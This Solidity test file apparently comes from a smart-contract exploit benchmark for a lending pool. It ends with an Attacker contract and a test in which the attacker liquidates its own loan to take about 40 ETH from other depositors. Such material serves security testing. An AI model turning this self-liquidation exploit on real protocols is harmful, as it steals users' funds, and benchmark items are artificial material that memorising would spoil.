// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./LoanPools.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-b9059c51-29fa-417b-8420-593c51ff4b50

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_773_000_000;
    uint64 private constant RATE = 1_585_489_599; // five per cent a year

    Coin private eth;
    Coin private gem;
    LoanPools private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        eth = new Coin();
        gem = new Coin();
        pool = new LoanPools();
        pool.set(eth, 2_000, RATE);
        pool.set(gem, 1_000, RATE);
        eth.transfer(ANA, 300e18);
        gem.transfer(BEN, 200e18);
        eth.transfer(BEN, 50e18);
        vm.startPrank(ANA);
        eth.approve(address(pool), type(uint256).max);
        pool.put(eth, 250e18);
        vm.stopPrank();
        vm.startPrank(BEN);
        eth.approve(address(pool), type(uint256).max);
        gem.approve(address(pool), type(uint256).max);
        pool.put(gem, 100e18);
        vm.stopPrank();
        mallory = new Attacker(pool, eth);
        eth.transfer(address(mallory), 105e18);
    }

    function test_Regular() public {
        vm.prank(BEN);
        pool.borrow(eth, 30e18);
        require(eth.balanceOf(BEN) == 80e18 && pool.debt(eth, BEN) == 30e18 && pool.ok(BEN), "lent");
        vm.warp(START + 1 days);
        vm.startPrank(BEN);
        pool.borrow(gem, 1e15);
        require(pool.debt(eth, BEN) > 30e18, "grows");
        require(pool.repay(gem, BEN, 1e18) < 2e15 && pool.debt(gem, BEN) == 0, "repaid");
        pool.repay(eth, BEN, 1e18);
        vm.stopPrank();

        // the gems fall, and somebody else takes a part of them
        pool.set(gem, 700, RATE);
        require(!pool.ok(BEN), "weak");
        vm.startPrank(ANA);
        uint256 k = pool.liquidate(BEN, eth, gem, 9e18);
        require(k == 27e18 && pool.bal(gem, ANA) == 27e18 && pool.bal(gem, BEN) == 73e18, "taken over");
        pool.take(gem, 27e18);
        pool.take(eth, 100e18);
        vm.stopPrank();
        require(gem.balanceOf(ANA) == 27e18 && eth.balanceOf(ANA) == 141e18, "taken out");
        require(pool.ok(BEN), "well again");
        vm.startPrank(BEN);
        uint256 d = pool.debt(eth, BEN);
        require(pool.repay(eth, BEN, type(uint256).max) == d && pool.debt(eth, BEN) == 0, "the rest");
        pool.take(gem, 73e18);
        vm.stopPrank();
        (, , , , , uint256 lent) = pool.pools(eth);
        require(lent == 0, "nothing lent");
    }

    function test_RefusesOthersAndWrongRates() public {
        vm.prank(ANA);
        vm.expectRevert(LoanPools.Auth.selector);
        pool.set(eth, 1, 1);
        vm.expectRevert(LoanPools.Rate.selector);
        pool.set(eth, 1, 3_170_979_199);
        for (uint256 i = 2; i < 8; ++i) pool.set(new Coin(), 1, 0);
        Coin ninth = new Coin();
        vm.expectRevert(LoanPools.Many.selector);
        pool.set(ninth, 1, 0);
    }

    function test_RefusesPoolsThatAreNot() public {
        Coin other = new Coin();
        other.approve(address(pool), 1);
        vm.expectRevert(LoanPools.Shut.selector);
        pool.put(other, 1);
        other.transfer(address(pool), 1);
        vm.prank(ANA);
        vm.expectRevert(LoanPools.Shut.selector);
        pool.borrow(other, 1);
    }

    function test_RefusesNothing() public {
        vm.startPrank(ANA);
        vm.expectRevert(LoanPools.Zero.selector);
        pool.borrow(eth, 0);
        vm.expectRevert(LoanPools.Zero.selector);
        pool.repay(eth, ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesWeakLoans() public {
        vm.startPrank(BEN);
        vm.expectRevert(LoanPools.Weak.selector);
        pool.borrow(eth, 40e18 + 1);
        pool.borrow(eth, 39e18);
        vm.expectRevert(LoanPools.Weak.selector);
        pool.take(gem, 5e18);
        vm.stopPrank();
    }

    function test_RefusesLiquidations() public {
        vm.prank(BEN);
        pool.borrow(eth, 40e18);
        vm.startPrank(ANA);
        vm.expectRevert(LoanPools.Fine.selector);
        pool.liquidate(BEN, eth, gem, 1e18);
        vm.warp(START + 1);
        vm.expectRevert(LoanPools.Much.selector);
        pool.liquidate(BEN, eth, gem, 21e18);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.open();
        vm.warp(START + 1 hours);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = eth.balanceOf(address(mallory));
        exploit();
        require(eth.balanceOf(address(mallory)) >= before + 40e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(eth);
    }
}

/// Borrows what it has put in, lets the loan grow weak and takes it over from itself.
contract Attacker {
    LoanPools private pool;
    IERC20 private eth;

    constructor(LoanPools pool_, IERC20 eth_) {
        pool = pool_;
        eth = eth_;
        eth_.approve(address(pool_), type(uint256).max);
    }

    function open() external {
        pool.put(eth, 100e18);
        pool.borrow(eth, 80e18);
    }

    function run() external {
        pool.liquidate(address(this), eth, eth, 40e18);
        pool.repay(eth, address(this), type(uint256).max);
        pool.take(eth, pool.bal(eth, address(this)));
    }
}
